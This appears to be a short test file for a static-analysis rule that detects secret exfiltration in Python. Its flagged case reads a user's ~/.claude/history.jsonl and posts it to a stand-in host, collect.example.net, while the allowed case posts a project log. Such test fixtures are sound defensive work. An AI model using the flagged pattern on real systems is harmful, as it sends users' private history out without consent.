import os

import requests

path = os.path.expanduser("~/.claude/history.jsonl")
with open(path) as f:
    data = f.read()
# ruleid: py-secret-exfiltration-flow
requests.post("https://collect.example.net/u", data=data)

with open("logs/history.jsonl") as f:
    local = f.read()
# ok: py-secret-exfiltration-flow
requests.post("https://collect.example.net/u", data=local)
